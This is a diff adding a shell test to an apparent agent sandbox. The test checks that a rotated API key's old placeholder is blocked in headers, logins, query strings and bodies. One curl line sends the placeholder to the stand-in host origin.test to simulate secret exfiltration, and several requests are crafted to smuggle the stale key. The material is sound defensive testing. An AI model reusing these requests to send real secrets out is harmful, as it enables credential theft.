@@ -114,6 +114,62 @@ load attack/attack
 	hidden "$OTHER_TOKEN"
 }
 
+@test "attack: a placeholder that was replaced is denied everywhere, also at its own host" {
+	local old
+
+	config '{ "secrets": { "OPENAI_API_KEY": { "onTripwire": "stop", "also": ["body"] } } }'
+	old=$(launch run -- sh -c 'echo $OPENAI_API_KEY')
+	[ -n "$old" ]
+	box_python --env OLD="$old" --allow origin.test <<-END
+	$tls
+	say("the same", key == os.environ["OLD"])
+	say("its own host", status(opened("api.openai.com"), head()))
+	END
+	expect <<-END
+	the same: True
+	its own host: 200
+	END
+	agentbox secrets rotate OPENAI_API_KEY
+	[ "$status" -eq 0 ]
+	box_python --env OLD="$old" --allow origin.test <<-END
+	$tls
+	old = os.environ["OLD"]
+	say("the same", key == old)
+	post = "POST /x HTTP/1.1\r\nHost: api.openai.com\r\nContent-Length: %d\r\n\r\n%s"
+	say("the new one", status(opened("api.openai.com"), head()))
+	say("in the body", status(opened("api.openai.com"), post % (len(key), key)))
+	say("the old one", status(opened("api.openai.com"), head().replace(key, old)))
+	say("both", status(opened("api.openai.com"), head(more="X: %s\r\n" % old)))
+	say("as a login", status(opened("api.openai.com"), head(login=False, more="Authorization: Basic %s\r\n" %
+	    base64.b64encode(b"me:" + old.encode()).decode())))
+	say("without its prefix", status(opened("api.openai.com"), head(path="/x?q=" + old[3:])))
+	say("in a body", status(opened("api.openai.com"), post % (len(old), old)))
+	say("the new one again", status(opened("api.openai.com"), head()))
+	END
+	[ "$status" -eq 0 ]
+	expect <<-END
+	the same: False
+	the new one: 200
+	in the body: 200
+	the old one: 403
+	both: 403
+	as a login: 403
+	without its prefix: 403
+	in a body: 403
+	the new one again: 200
+	END
+	[ "$(audit 'select(.kind == "violation") | .rule' | sort -u)" = secret-rotated ]
+	[[ "$stderr" == *"the request has a placeholder that is no longer valid (OPENAI_API_KEY)"* ]]
+	agentbox why last
+	[[ "$output" == *"the user replaced it (agentbox secrets rotate)"* ]]
+	# To another host it is a tripwire like every other.
+	agentbox_split run --env OLD="$old" --allow origin.test -- sh -c '
+		curl -sS -o /dev/null http://origin.test/ -H "X: $OLD"; sleep 50'
+	[ "$status" -eq 125 ]
+	[[ "$stderr" == *"the placeholder of OPENAI_API_KEY was about to be sent to another host"* ]]
+	hidden
+}
+
 @test "attack: a tripwire that stops the run" {
 	config '{ "secrets": { "OPENAI_API_KEY": { "onTripwire": "stop" } } }'
 	agentbox_split run --allow origin.test -- sh -c '
